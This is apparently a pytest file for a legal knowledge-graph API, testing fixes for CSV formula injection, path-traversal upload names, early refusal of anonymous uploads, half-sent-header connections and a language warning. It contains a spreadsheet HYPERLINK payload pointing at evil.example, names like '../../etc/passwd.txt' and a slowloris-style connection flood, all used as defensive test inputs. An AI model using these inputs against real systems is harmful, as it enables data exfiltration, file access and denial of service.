"""The smaller holes of issue 12: CSV cells a spreadsheet would run, actors whose id holds "/",
upload names with folders that collide, and an anonymous upload read before its 401."""
from __future__ import annotations

import csv
import io
import socket
import time

import httpx
import pytest
from fastapi.testclient import TestClient

from govkg.api.app import create_app
from govkg.api.settings import Settings
from govkg.kg.actors import iri_segment
from govkg.kg.mapping import graph_iri
from govkg.kg.oxigraph_store import OxigraphStore
from govkg.kg.sparql_terms import ACTOR_NS
from tests.conftest import free_port
from govkg.ingest.extract import extract_path
from tests.robustness.badfiles import GOOD_EN, GOOD_ZH
from tests.robustness.helpers import TOKEN, Served, govkg, no_traceback

SLASHED = "省/市人民政府"


@pytest.fixture(scope="module")
def client(tmp_path_factory):
    folder = tmp_path_factory.mktemp("holes")
    store = OxigraphStore(folder / "store")
    with TestClient(create_app(Settings(store=str(folder / "store"), write_token=TOKEN), store=store)) as http:
        http.headers["Authorization"] = f"Bearer {TOKEN}"
        assert http.post("/documents", files={"file": ("law.txt", GOOD_ZH.encode(), "text/plain")}).status_code == 201
        yield http
    store.close()


def test_matrix_csv_cells_never_start_a_formula(client):
    topics = '=HYPERLINK("http://evil.example/?"&A1),+SUM(1),报告'
    answer = client.get("/matrix", params={"topics": topics, "format": "csv"})
    assert answer.status_code == 200, answer.text
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1)" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells[:10]


def test_an_actor_whose_label_holds_a_slash_has_its_pages(client):
    actor = ACTOR_NS + iri_segment(SLASHED)
    update = (f'INSERT DATA {{ GRAPH <{graph_iri("law")}> {{ <{actor}> '
              f'<http://www.w3.org/2004/02/skos/core#prefLabel> "{SLASHED}"@zh }} }}')
    assert client.post("/sparql", content=update.encode(),
                       headers={"Content-Type": "application/sparql-update"}).status_code == 204
    found = client.get("/actors", params={"q": "省/市"}).json()["actors"]
    assert [a["id"] for a in found] == [SLASHED]
    for path in (f"/actors/{SLASHED}", f"/actors/{SLASHED}/norms", f"/view/actors/{SLASHED}"):
        answer = client.get(path)
        assert answer.status_code == 200, (path, answer.status_code, answer.text[:200])
    assert client.get(f"/actors/{SLASHED}").json()["actor"]["label"] == SLASHED


def test_upload_names_with_folders_do_not_replace_each_other(client):
    for name in ("../../etc/passwd.txt", "/etc/passwd.txt", "..\\..\\etc\\passwd.txt"):
        answer = client.post("/documents", files={"file": (name, GOOD_ZH.encode(), "text/plain")})
        assert answer.status_code == 422 and "folder" in answer.text, (name, answer.text)
    assert "passwd" not in [d["doc"] for d in client.get("/documents").json()["documents"]]
    named = client.post("/documents", files={"file": ("/etc/passwd.txt", GOOD_ZH.encode(), "text/plain")},
                        data={"doc": "etc-passwd"})
    assert named.status_code == 201 and named.json()["doc"] == "etc-passwd"


@pytest.mark.slow
def test_an_anonymous_upload_is_refused_before_its_body(tmp_path):
    port = free_port()
    with Served(tmp_path / "store", port, token=TOKEN):
        with socket.create_connection(("127.0.0.1", port), timeout=10) as sock:
            head = ("POST /documents HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 5000000\r\n"
                    "Content-Type: multipart/form-data; boundary=zz\r\n\r\n")
            sock.sendall(head.encode() + b"--zz\r\nContent-Disposition: form-data; name=\"file\"; "
                         b"filename=\"a.txt\"\r\n\r\n" + b"x" * 1024)
            started = time.monotonic()
            sock.settimeout(5)
            try:
                answer = sock.recv(4096)
            except TimeoutError:
                answer = b""
        assert answer.startswith(b"HTTP/1.1 401"), answer[:200]
        assert time.monotonic() - started < 5


@pytest.mark.slow
def test_connections_with_unfinished_headers_are_closed(tmp_path):
    port = free_port()
    count = 400
    with Served(tmp_path / "store", port, env={"GOVKG_HEADER_TIMEOUT": "1"}) as served:
        socks = []
        for _ in range(count):
            sock = socket.create_connection(("127.0.0.1", port), timeout=10)
            sock.sendall(b"GET /documents HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")
            socks.append(sock)
        assert httpx.get(served.base + "/documents", timeout=10).status_code == 200
        closed = _closed_within(socks, 4.0)
        assert closed == count, f"{count - closed} of {count} half-sent connections still open"
        assert httpx.get(served.base + "/documents", timeout=10).status_code == 200


def _closed_within(socks: list[socket.socket], seconds: float) -> int:
    """How many of ``socks`` the other end closes within ``seconds`` (all watched at once)."""
    import selectors
    watch = selectors.DefaultSelector()
    for sock in socks:
        sock.setblocking(False)
        watch.register(sock, selectors.EVENT_READ)
    closed, deadline = 0, time.monotonic() + seconds
    while closed < len(socks) and time.monotonic() < deadline:
        for key, _ in watch.select(timeout=max(deadline - time.monotonic(), 0.01)):
            try:
                data = key.fileobj.recv(1)
            except ConnectionResetError:
                data = b""
            if data == b"":
                closed += 1
                watch.unregister(key.fileobj)
    for sock in socks:
        sock.close()
    return closed


FRENCH = """# Règlement sur la notification des violations

Article 1

Le responsable du traitement doit notifier la violation de données à caractère personnel à
l'autorité de contrôle compétente dans les meilleurs délais, et si possible soixante-douze heures
au plus tard après en avoir pris connaissance.

Article 2

Le sous-traitant notifie au responsable du traitement toute violation de données à caractère
personnel dans les meilleurs délais après en avoir pris connaissance. La notification doit, à tout
le moins, décrire la nature de la violation.
"""


def test_a_text_in_a_language_govkg_does_not_read_says_so(tmp_path):
    """A French text is still read with the English grammar, but no longer without a word said."""
    french, english = tmp_path / "reglement.md", tmp_path / "rules.txt"
    french.write_text(FRENCH, encoding="utf-8")
    english.write_text(GOOD_EN, encoding="utf-8")
    said = govkg("extract", french, english, "--format", "jsonl")
    assert said.returncode == 0 and no_traceback(said.stderr), said.stderr
    warnings = [line for line in said.stderr.splitlines() if "does not read as English" in line]
    assert len(warnings) == 1 and "reglement.md" in warnings[0], said.stderr
    assert extract_path(french).metadata["warnings"] and not extract_path(english).metadata.get("warnings")
